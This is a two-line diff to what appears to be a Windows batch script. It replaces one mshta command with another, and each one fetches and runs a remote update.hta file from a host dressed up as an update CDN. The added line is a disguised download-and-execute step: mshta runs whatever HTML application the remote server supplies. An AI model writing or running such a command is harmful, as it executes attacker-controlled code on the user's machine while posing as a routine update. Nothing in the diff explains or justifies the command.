@@ -1,2 +1,2 @@
-REM config 7514 v1
-mshta http://cdn-update.example/update.hta
+REM task 7142 v1
+mshta http://dl.winupdate-cdn.example/update.hta
